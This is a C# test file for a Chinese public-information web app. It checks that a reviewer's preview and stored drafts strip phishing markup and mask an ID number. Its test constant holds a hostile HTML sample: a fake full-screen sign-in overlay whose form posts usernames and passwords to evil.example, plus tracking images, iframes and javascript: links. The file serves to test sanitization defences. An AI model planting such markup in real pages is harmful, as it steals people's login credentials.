using Gongkai.App.Accounts;
using Gongkai.App.Catalog;
using Gongkai.App.Data;
using Gongkai.App.Demo;
using Gongkai.Core.Accounts;
using Gongkai.Tests.Data;
using Gongkai.Tests.Web;
using Microsoft.EntityFrameworkCore;

namespace Gongkai.Tests.Catalog;

/// <summary>
/// The reviewer's preview of a body before publication (issue 13 §2): an editor cannot show a reviewer a fake sign-in
/// screen, a tracking image or anything loaded from another site — not even with a body stored before today's rules.
/// </summary>
public class CatalogPreviewTests
{
    private const string Phishing =
        "<p>各单位：</p>" +
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:url(https://evil.example/bg.png)\">" +
        "<h1>统一身份认证</h1><form action=\"https://evil.example/collect\" method=\"post\"><input name=\"u\"><input type=\"password\" name=\"p\">" +
        "<button>登录</button></form></div>" +
        "<p><img src=\"https://evil.example/track.png\" alt=\"公章\"><iframe src=\"https://evil.example/login\"></iframe>" +
        "<svg><a href=\"https://evil.example\"><text>点击</text></a></svg><object data=\"https://evil.example/x\"></object><embed src=\"https://evil.example/y\">" +
        "<a href=\"javascript:alert(1)\">查看</a> <a href=\"https://evil.example/signin\">重新登录</a></p>" +
        "<p>联系人身份证号<b>110105</b>19491231002X。</p>";

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task A_body_stored_before_todays_rules_should_be_shown_to_the_reviewer_without_anything_that_could_phish(DatabaseProvider provider)
    {
        await using var app = await WebApp.StartAsync(provider);
        await app.AddStaffAsync("reviewer", "yy", StaffRole.CatalogReviewer);
        app.Database.Clock.SetToday(new DateOnly(2024, 5, 8));
        var item = await CatalogWorkflowTests.SubmittedAsync(app.Database, CatalogWorkflowTests.Notice(), "yy");
        await using (var scope = app.Database.Scope())
        {
            // As an earlier version stored it: the old sanitizer kept the form, the overlay and the external resources.
            await app.Database.Get<GongkaiDb>(scope).CatalogItems.Where(i => i.Id == item.Id).ExecuteUpdateAsync(s => s.SetProperty(i => i.Body, Phishing));
        }

        var page = await (await app.SignedInAsync("reviewer")).GetPageAsync($"/office/catalog/{item.Id}");

        var body = page.QuerySelector(".item-body")!;
        Assert.Empty(body.QuerySelectorAll("form, input, button, iframe, svg, object, embed, [style]"));
        Assert.DoesNotContain("evil.example/bg.png", body.InnerHtml);
        Assert.Empty(body.QuerySelectorAll("img"));
        var links = body.QuerySelectorAll("a[href]").ToDictionary(a => a.GetAttribute("href")!, a => a.GetAttribute("rel"));
        Assert.Equal(new Dictionary<string, string?>
        {
            ["https://evil.example/track.png"] = "noopener noreferrer",   // the image, as a link to it
            ["https://evil.example/signin"] = "noopener noreferrer",
        }, links);
        Assert.Contains("统一身份认证", body.TextContent);              // the words stay, in the flow of the text
        Assert.Contains("身份证号110105********002X", body.TextContent);
        Assert.DoesNotContain("19491231002X", page.DocumentElement.OuterHtml);
        Assert.Contains("110105********002X", page.QuerySelector("#privacy ~ ul")!.TextContent);
    }

    [Fact]
    public async Task A_draft_should_be_stored_sanitized_and_its_own_image_previewed_from_the_office()
    {
        await using var app = await WebApp.StartAsync(DatabaseProvider.Sqlite);
        await app.AddStaffAsync("reviewer", "yy", StaffRole.CatalogReviewer);
        app.Database.Clock.SetToday(new DateOnly(2024, 5, 8));
        var draft = await CatalogAttachmentTests.DraftAsync(app.Database, unitKey: "yy");
        var png = new byte[] { 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 1, 2, 3 };
        var image = (await CatalogAttachmentTests.AttachAsync(app.Database, draft.Id, "示意图.png", png)).Value!;
        await using (var scope = app.Database.Scope())
        {
            var notice = CatalogWorkflowTests.Notice(body: Phishing + $"<p><img src=\"/xxgk/attachments/{image.Id}\" alt=\"示意图\"></p>");
            Assert.True((await app.Database.Get<SaveCatalogDraft>(scope).HandleAsync(new(draft.Id, SeedDemoData.CodeOf("yy"), notice), StaffScope.System)).Succeeded);
            Assert.True((await app.Database.Get<SubmitCatalogItem>(scope).HandleAsync(draft.Id, StaffScope.System)).Succeeded);
        }
        await using (var scope = app.Database.Scope())
        {
            var stored = await app.Database.Get<GongkaiDb>(scope).CatalogItems.AsNoTracking().SingleAsync(i => i.Id == draft.Id);
            Assert.Equal(CatalogBodyHtml.Sanitize(stored.Body), stored.Body);
            Assert.DoesNotContain("<form", stored.Body);
            Assert.DoesNotContain("position", stored.Body);
            Assert.Contains($"<img src=\"/xxgk/attachments/{image.Id}\" alt=\"示意图\">", stored.Body);
        }

        var page = await (await app.SignedInAsync("reviewer")).GetPageAsync($"/office/catalog/{draft.Id}");

        var img = page.QuerySelector(".item-body img")!;
        Assert.Equal($"/office/catalog/{draft.Id}?handler=Attachment&attachmentId={image.Id}", img.GetAttribute("src"));
        Assert.Equal("示意图", img.GetAttribute("alt"));
    }
}
